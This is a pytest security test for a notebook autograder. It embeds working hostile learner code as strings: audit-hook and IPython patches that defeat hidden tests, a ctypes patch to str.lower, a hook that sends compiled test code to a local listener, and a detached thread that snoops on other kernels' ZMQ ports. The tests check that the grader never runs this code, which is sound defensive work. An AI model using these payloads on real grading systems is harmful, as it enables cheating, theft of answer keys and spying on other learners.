"""Hostile learners whose tricks beat grading while hidden tests ran in the learner's own kernel (issue 9).

Every hostile learner hands in ALL answers wrong, plus a few lines of code in the first answer
box. While grading ran each notebook in a kernel, and the hidden tests after it in the same
process, that code could rewrite the answers just before each test, make the tests pass, send
the tests (the answer key) out, or outlive grading and spy on the kernels of later learners.

The whole batch, with honest learners among the hostile ones, is graded once through each entry
point: `nbgrader autograde` typed by hand, and `toolkit-course autograde`. Each test asserts the
mark deserved (0), that nothing leaked, and that every honest learner got the grade computed
independently from the answer key.

Evidence the learner code ran is collected outside any sandbox: it would send what it sees to a
TCP listener in this test process, and every process is watched for a kernel started for this
batch (its command line holds this batch's private temporary folder).
"""

from __future__ import annotations

import json
import os
import random
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from toolkit_course import content

from .conftest import answer_key, answered, auto_total, copy_course, score_of, submit, wrong_answers

pytestmark = pytest.mark.slow
EXTRA_CELLS = 10_000

# ---------------------------------------------------------------- the tricks (learner code, as text)

# Sends text to the test's listener, tagged with the learner; never fails.
SEND = '''
def _send(text, _tag={tag!r}):
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as _s:
            _s.sendall((_tag + " " + str(text)).encode("utf-8", "replace") + b"\\n")
    except OSError:
        pass
_send("RAN")
'''

# Rewrites each answer variable the next hidden test names to the text the test compares it with.
AUDIT_HOOK = '''
import sys
def _fix(event, args, _ns=get_ipython().user_ns):
    if event == "exec" and args and hasattr(args[0], "co_consts"):
        wanted = [c for c in args[0].co_consts if isinstance(c, str) and c]
        for name in args[0].co_names:
            if wanted and isinstance(_ns.get(name), str):
                _ns[name] = wanted[-1]
sys.addaudithook(_fix)
'''

TRANSFORM_CELL = '''
_ip = get_ipython()
_orig_transform = _ip.transform_cell
_ip.transform_cell = lambda raw_cell: "pass\\n" if "assert" in raw_cell else _orig_transform(raw_cell)
'''

RUN_CELL = '''
_ip = get_ipython()
_orig_run_cell = _ip.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    return _orig_run_cell("pass" if "assert" in raw_cell else raw_cell, *args, **kwargs)
_ip.run_cell = _run_cell
'''

RUN_CELL_ASYNC = '''
_ip = get_ipython()
_orig_run_cell_async = _ip.run_cell_async
async def _run_cell_async(raw_cell, *args, **kwargs):
    if "assert" in raw_cell:
        raw_cell, kwargs["transformed_cell"] = "pass", "pass\\n"
    return await _orig_run_cell_async(raw_cell, *args, **kwargs)
_ip.run_cell_async = _run_cell_async
'''

DROP_ASSERTS = '''
import ast
class _DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_DropAsserts())
'''

FORGED_USER_EXPRESSIONS = DROP_ASSERTS + '''
get_ipython().user_expressions = lambda expressions: {
    key: {"status": "ok", "data": {"text/plain": "'ok'"}, "metadata": {}} for key in expressions}
'''

GUARD_NO_OP = DROP_ASSERTS + '''
try:
    import toolkit_course.grading.kernel_guard as _guard
    _guard.reset = lambda: "ok"
except ImportError:
    pass
'''

# Makes str.lower return an object equal to anything, but only when called from a cell.
STR_PATCH = '''
import ctypes, gc, sys
_real_lower = str.lower
class _Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def _lower(self):
    if sys._getframe(1).f_globals is get_ipython().user_ns:
        return _Yes()
    return _real_lower(self)
gc.get_referents(str.__dict__)[0]["lower"] = _lower
ctypes.pythonapi.PyType_Modified(ctypes.py_object(str))
'''

# Sends every piece of code this process compiles (later cells and hidden tests) and all it can see.
EXFILTRATE = '''
import sys, json
def _spy(event, args):
    if event == "compile" and args and isinstance(args[0], (str, bytes)):
        _send(args[0] if isinstance(args[0], str) else args[0].decode("utf-8", "replace"))
sys.addaudithook(_spy)
_send(json.dumps({key: repr(value)[:300] for key, value in list(globals().items())}))
'''

# Leaves the session, keeps a non-daemon thread alive and listens on every local port (IOPub included).
SURVIVOR = '''
import ctypes, os, threading, time
try:
    os.setsid()
except OSError:
    pass
def _name(_n={name!r}):
    ctypes.CDLL(None).prctl(15, _n.encode(), 0, 0, 0)
_name()
def _snoop():
    _name()
    subscribed, sockets = set(), []
    try:
        import zmq
        context = zmq.Context()
    except ImportError:
        zmq = None
    while True:
        try:
            lines = open("/proc/net/tcp").read().splitlines()[1:]
        except OSError:
            lines = []
        for line in lines:
            parts = line.split()
            if zmq and parts[3] == "0A" and parts[1].startswith("0100007F:"):
                port = int(parts[1].split(":")[1], 16)
                if port not in subscribed and port != {port}:
                    subscribed.add(port)
                    sub = context.socket(zmq.SUB)
                    sub.setsockopt(zmq.SUBSCRIBE, b"")
                    sub.connect(f"tcp://127.0.0.1:{{port}}")
                    sockets.append(sub)
        for sub in sockets:
            try:
                while True:
                    _send(b" ".join(sub.recv_multipart(zmq.NOBLOCK)).decode("utf-8", "replace"))
            except Exception:
                pass
        time.sleep(0.2)
threading.Thread(target=_snoop, daemon=False).start()
'''

CODE_AROUND_ANSWER = '''
import os
print("this line would print if the box were run")
os.system("echo ran")
_send("code around the answer ran")
'''

TRICKS = {
    "audit-hook": AUDIT_HOOK,
    "transform-cell": TRANSFORM_CELL,
    "run-cell": RUN_CELL,
    "run-cell-async": RUN_CELL_ASYNC,
    "forged-user-expressions": FORGED_USER_EXPRESSIONS,
    "guard-no-op": GUARD_NO_OP,
    "str-patch": STR_PATCH,
    "exfiltrate": EXFILTRATE,
    "survivor": SURVIVOR,
    "code-in-answers": CODE_AROUND_ANSWER,
    "many-cells": "",
}
HONEST = ["honest-1", "honest-2", "honest-3"]


# ---------------------------------------------------------------- watching from outside

class Listener:
    """A TCP server on 127.0.0.1 that keeps every line sent to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                data = b""
                while chunk := connection.recv(65536):
                    data += chunk
                self.received.append(data.decode("utf-8", "replace"))

    def close(self):
        self.server.close()


class KernelWatcher:
    """Every kernel started for this batch: its command line names a connection file in the batch's private folder."""

    def __init__(self, token: str):
        self.token = token.encode()
        self.seen: dict[int, str] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def matching(self) -> dict[int, str]:
        found = {}
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                command = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            # A kernel's command line names its connection file, which is made in the private folder.
            if self.token in command and (b"kernel" in command or b"connection-file" in command):
                found[int(pid)] = command.replace(b"\0", b" ").decode("utf-8", "replace")
        return found

    def _watch(self):
        while not self._stop.is_set():
            self.seen.update(self.matching())
            time.sleep(0.01)

    def stop(self):
        self._stop.set()
        self._thread.join()


def named_processes(name: str) -> list[int]:
    """Processes (or threads) that named themselves `name` with prctl."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            tasks = os.listdir(f"/proc/{pid}/task")
        except OSError:
            continue
        for task in tasks:
            try:
                if Path(f"/proc/{pid}/task/{task}/comm").read_text().strip() == name:
                    found.add(int(pid))
            except OSError:
                continue
    return sorted(found)


# ---------------------------------------------------------------- the batch

@dataclass
class Batch:
    course: object
    slug: str
    expected: dict[str, float]
    received: list[str]
    kernels: dict[int, str]
    survivors: list[int]
    hidden_tests: list[str]
    returncode: int
    output: str = ""
    notes: dict = field(default_factory=dict)


def _hidden_tests(course, slug) -> list[str]:
    """The assert lines of the module's hidden tests, as the instructor notebook holds them."""
    path = course.source / slug / f"{slug}-assessment.ipynb"
    lines = []
    for cell in nbformat.read(path, as_version=4).cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            lines += [line.strip() for line in cell.source.splitlines() if line.strip().startswith("assert")]
    return lines


def _grade(entry_point: str, course, slug, env) -> subprocess.CompletedProcess:
    if entry_point == "nbgrader":
        command = [sys.executable, "-m", "nbgrader", "autograde", slug, "--force"]
        subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", slug, "--force",
                        f"--CourseDirectory.release_directory={course.workspace / 'scratch-release'}"],
                       cwd=course.root, env=env, capture_output=True, check=True)
    else:
        command = [sys.executable, "-m", "toolkit_course", "autograde", slug, "--no-progress",
                   "--workspace", str(course.workspace)]
    return subprocess.run(command, cwd=course.root, env=env, capture_output=True, text=True)


@pytest.fixture(scope="module", params=["nbgrader", "toolkit-course"])
def batch(request, tmp_path_factory):
    monkeypatch = pytest.MonkeyPatch()
    base = tmp_path_factory.mktemp(f"hostile-{request.param}")
    course = copy_course(base, monkeypatch)
    slug = content.assessed_slugs()[0]
    right, wrong = answer_key(slug), wrong_answers(slug)
    first = next(iter(right))
    listener = Listener()
    private_tmp = base / f"private-tmp-{secrets.token_hex(4)}"
    private_tmp.mkdir()
    survivor_name = f"g1s{secrets.token_hex(5)}"
    expected = {}

    def hostile(learner: str, trick: str) -> nbformat.NotebookNode:
        if trick is SURVIVOR:
            trick = trick.format(name=survivor_name, port=listener.port)
        code = SEND.format(tag=learner, port=listener.port) + trick + f"\n{first} = {json.dumps(wrong[first])}\n"
        return answered(course, slug, wrong, extra_code={first: code})

    for learner, trick in TRICKS.items():
        if learner == "code-in-answers":
            notebook = answered(course, slug, wrong, extra_code={
                variable: SEND.format(tag=learner, port=listener.port) + CODE_AROUND_ANSWER
                + f"{variable} = {json.dumps(value)}\n" for variable, value in wrong.items()})
        elif learner == "many-cells":
            notebook = answered(course, slug, wrong)
            notebook.cells += [nbformat.v4.new_code_cell(f"extra_{n} = {n}") for n in range(EXTRA_CELLS)]
        else:
            notebook = hostile(learner, trick)
        submit(course, learner, slug, notebook)
        expected[learner] = 0.0
    chooser = random.Random(9)
    for learner in HONEST:
        answers = {v: right[v] if chooser.random() < 0.6 else wrong[v] for v in right}
        submit(course, learner, slug, answered(course, slug, answers))
        expected[learner] = score_of(answers, slug)

    env = course.env()
    env.update(TMPDIR=str(private_tmp), JUPYTER_RUNTIME_DIR=str(private_tmp))
    watcher = KernelWatcher(str(private_tmp))
    result = _grade(request.param, course, slug, env)
    watcher.stop()
    survivors = sorted(set(named_processes(survivor_name)) | set(watcher.matching()))
    yield Batch(course, slug, expected, listener.received, watcher.seen, survivors, _hidden_tests(course, slug),
                result.returncode, result.stdout[-3000:] + result.stderr[-3000:])
    for pid in survivors:  # started by this test's batch: end them by their id
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    listener.close()
    monkeypatch.undo()


def _honest_learners_are_graded_from_the_key(batch: Batch) -> None:
    for learner in HONEST:
        assert auto_total(batch.course, learner, batch.slug) == batch.expected[learner], learner


def _autograded(batch: Batch, learner: str) -> nbformat.NotebookNode:
    path = batch.course.autograded / learner / batch.slug / f"{batch.slug}-assessment.ipynb"
    return nbformat.read(path, as_version=4)


def _sent_by(batch: Batch, learner: str) -> list[str]:
    return [text for text in batch.received if text.startswith(learner + " ")]


# ---------------------------------------------------------------- the tests

@pytest.mark.parametrize("learner", list(TRICKS))
def test_wrong_answers_score_zero_and_the_code_never_runs(batch, learner):
    assert auto_total(batch.course, learner, batch.slug) == 0.0
    assert _sent_by(batch, learner) == [], f"{learner}'s code ran during grading"
    _honest_learners_are_graded_from_the_key(batch)


def test_no_hidden_test_reaches_any_process_learner_code_runs_in(batch):
    assert batch.hidden_tests, "the module has hidden tests to protect"
    everything_sent = "\n".join(batch.received)
    leaked = [test for test in batch.hidden_tests if test in everything_sent]
    assert leaked == [] and "HIDDEN TESTS" not in everything_sent
    assert batch.received == [], "no learner code may run in grading at all"
    _honest_learners_are_graded_from_the_key(batch)


def test_no_kernel_is_started_so_there_is_no_iopub_to_snoop_on(batch):
    assert batch.kernels == {}, f"kernels started while grading: {sorted(batch.kernels.values())[:3]}"
    assert _sent_by(batch, "survivor") == []
    _honest_learners_are_graded_from_the_key(batch)


def test_no_learner_process_survives_grading(batch):
    assert batch.survivors == [], f"{len(batch.survivors)} process(es) of a learner outlived grading"
    _honest_learners_are_graded_from_the_key(batch)


def test_many_extra_cells_add_no_executions(batch):
    """10,000 extra cells: the number of things executed is bounded by the module's hidden tests."""
    graded = _autograded(batch, "many-cells")
    executed = [cell for cell in graded.cells if cell.cell_type == "code" and cell.get("execution_count")]
    assert len(graded.cells) > EXTRA_CELLS
    assert len(executed) <= len(batch.hidden_tests)
    _honest_learners_are_graded_from_the_key(batch)


def test_code_in_answer_boxes_is_reported_and_not_run(batch):
    graded = _autograded(batch, "code-in-answers")
    answer_cells = [c for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-answer")]
    said = ["".join(o.get("text", "") for o in c.outputs) for c in answer_cells]
    assert said and all("ignored and not run" in text and "Read for grading" in text for text in said)
    assert not any("this line would print" in text or "ran\n" in text for text in said)
    _honest_learners_are_graded_from_the_key(batch)
